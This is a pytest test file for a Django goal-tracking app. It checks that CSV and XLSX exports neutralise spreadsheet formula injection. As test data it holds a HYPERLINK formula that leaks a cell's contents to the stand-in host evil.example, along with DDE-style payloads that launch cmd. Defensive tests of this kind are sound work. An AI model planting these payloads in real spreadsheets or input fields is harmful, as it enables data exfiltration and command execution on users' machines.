"""Every CSV and XLSX export writes formula-leading text (= + - @ tab CR) as inert text: a
leading single quote in CSV, a string cell (never a formula) in XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheet import safe_cell
from goals.models import Goal
from tests.audit.conftest import agreed_goal
from tests.dashboard.conftest import cascade  # noqa: F401
from tests.goals.conftest import _fast_passwords, _today, make_goal, quarter, year  # noqa: F401
from tracking.models import CheckIn, KeyResultUpdate

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_cells(response) -> list:
    assert response.status_code == 200, response.content[:300]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_csv_inert(rows, text=EVIL):
    cells = [c for row in rows for c in row]
    assert "'" + text in cells
    assert text not in cells


def _assert_xlsx_inert(cells, text=EVIL):
    hits = [c for c in cells if isinstance(c.value, str) and text in c.value]
    assert hits, "the text is in the file"
    assert all(c.value == "'" + text and c.data_type == "s" for c in hits)
    assert all(c.data_type != "f" for c in cells)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1-2", "'+1-2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("Win 200", "Win 200"),
        ("", ""),
        (12, 12),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_goal_exports(login, company, quarter, cascade):  # noqa: F811
    Goal.objects.filter(pk=cascade["sales"].pk).update(title=EVIL)
    client = login(company["bob"])
    url = reverse("dashboard:export", args=["goals", "csv"])
    rows = _csv(client.get(url, {"cycle": quarter.pk}))
    _assert_csv_inert(rows)
    sales = next(r for r in rows if r[1] == "'" + EVIL)
    assert sales[15] == "200"  # numbers stay numbers
    xlsx = client.get(reverse("dashboard:export", args=["goals", "xlsx"]), {"cycle": quarter.pk})
    cells = _xlsx_cells(xlsx)
    _assert_xlsx_inert(cells)
    assert any(c.value == cascade["sales"].pk and c.data_type == "n" for c in cells)


def test_check_in_exports(login, company, quarter, cascade):  # noqa: F811
    kr = cascade["alice"].key_results.get()
    check_in = CheckIn.objects.create(
        person=company["alice"], week=dt.date(2026, 11, 9), state=CheckIn.State.SUBMITTED
    )
    KeyResultUpdate.objects.create(
        check_in=check_in, key_result=kr, value=Decimal("12"), note="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    client = login(company["bob"])
    text = "@SUM(1+1)*cmd|' /C calc'!A0"
    url = reverse("dashboard:export", args=["check-ins", "csv"])
    _assert_csv_inert(_csv(client.get(url, {"cycle": quarter.pk})), text)
    url = reverse("dashboard:export", args=["check-ins", "xlsx"])
    _assert_xlsx_inert(_xlsx_cells(client.get(url, {"cycle": quarter.pk})), text)


def test_audit_exports(login, company, quarter):  # noqa: F811
    agreed_goal(manager=company["bob"], owner=company["alice"], cycle=quarter, title=EVIL)
    client = login(company["zed"])
    _assert_csv_inert(_csv(client.get("/dashboard/audit/export.csv", {"kind": "goal"})))
    cells = _xlsx_cells(client.get("/dashboard/audit/export.xlsx", {"kind": "goal"}))
    _assert_xlsx_inert(cells)


def test_alignment_checklist_csv(login, company, quarter, cascade):  # noqa: F811
    Goal.objects.filter(pk=cascade["sales"].pk).update(title=EVIL)
    response = login(company["carol"]).get(
        reverse("dashboard:alignment-csv"), {"unit": company["sales"].pk, "cycle": quarter.pk}
    )
    _assert_csv_inert(_csv(response))


def test_import_error_report(login, company):
    client = login(company["bob"])
    session = client.session
    session["dashboard_import_errors"] = [[2, "title", "-2+3+cmd|' /C calc'!A0"]]
    session.save()
    rows = _csv(client.get(reverse("dashboard:import-errors")))
    assert rows[1] == ["2", "title", "'-2+3+cmd|' /C calc'!A0"]
